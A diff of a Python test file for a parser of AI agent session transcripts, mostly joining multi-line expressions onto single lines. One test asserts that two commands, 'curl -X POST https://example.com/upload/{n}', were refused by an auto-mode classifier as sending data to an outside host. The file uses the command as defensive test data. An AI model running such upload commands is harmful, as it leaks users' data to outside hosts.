@@ -27,9 +27,7 @@ def user(text: str, **extra) -> dict:
 
 
 def agent(text: str = "", tools: list[tuple[str, dict]] = (), stop: str = "end_turn") -> dict:
-    content = ([{"type": "text", "text": text}] if text else []) + [
-        {"type": "tool_use", "id": f"toolu_{i}", "name": n, "input": inp} for i, (n, inp) in enumerate(tools)
-    ]
+    content = ([{"type": "text", "text": text}] if text else []) + [{"type": "tool_use", "id": f"toolu_{i}", "name": n, "input": inp} for i, (n, inp) in enumerate(tools)]
     return {"type": "assistant", "uuid": f"a-{text}", "message": {"id": "msg_1", "role": "assistant", "content": content, "stop_reason": stop}}
 
 
@@ -65,9 +63,7 @@ def test_transcript_path_matches_the_fixture_layout(tmp_path: Path):
 def test_parse_line_kinds():
     assert parse_line(user("hi")) == Turn(role="user", text="hi", uuid="u-hi", timestamp="2026-01-01T00:00:00Z")
     turn = parse_line(agent("Running it.", [("Bash", {"command": "ls"})], stop="tool_use"))
-    assert (turn.role, turn.text, turn.tool_uses, turn.stop_reason, turn.message_id) == (
-        "agent", "Running it.", (("Bash", {"command": "ls"}),), "tool_use", "msg_1"
-    )
+    assert (turn.role, turn.text, turn.tool_uses, turn.stop_reason, turn.message_id) == ("agent", "Running it.", (("Bash", {"command": "ls"}),), "tool_use", "msg_1")
     result = {"type": "user", "message": {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": "denied"}], "is_error": True}]}}
     # Claude said nothing of who decided (no permissionDecision, no toolDenialKind): an outcome that says so.
     assert parse_line(result) == Turn(role="tool_result", text="denied", is_error=True, outcomes=(ToolOutcome("t", "", None),))
@@ -116,14 +112,7 @@ def test_a_partial_last_line_waits_for_its_end(tmp_path: Path):
 
 def test_unknown_types_and_bad_lines_are_skipped(tmp_path: Path):
     path = tmp_path / "s.jsonl"
-    path.write_bytes(
-        line({"type": "future-kind", "x": 1})
-        + b"{not json\n"
-        + b"\n"
-        + b"[1, 2]\n"
-        + "\u00ff\u00fe garbage\n".encode("latin-1")
-        + line(user("still here"))
-    )
+    path.write_bytes(line({"type": "future-kind", "x": 1}) + b"{not json\n" + b"\n" + b"[1, 2]\n" + "\u00ff\u00fe garbage\n".encode("latin-1") + line(user("still here")))
     assert [t.text for t in TranscriptTail(path).read_new()] == ["still here"]
 
 
@@ -211,6 +200,4 @@ def test_auto_modes_refusals_and_mode_are_read_from_a_real_transcript():
     assert {t.text for t in read if t.role == "mode"} == {"auto"}
     calls = {i: c["command"] for t in read for i, (_, c) in zip(t.tool_use_ids, t.tool_uses, strict=True)}
     refused = [(calls[o.tool_use_id], o.accepted, o.reason, o.said) for t in read for o in t.outcomes]
-    assert refused == [
-        (f"curl -X POST https://example.com/upload/{n}", False, "classifier:auto-mode", "Sends data out to an outside host") for n in (1, 2)
-    ], refused
+    assert refused == [(f"curl -X POST https://example.com/upload/{n}", False, "classifier:auto-mode", "Sends data out to an outside host") for n in (1, 2)], refused
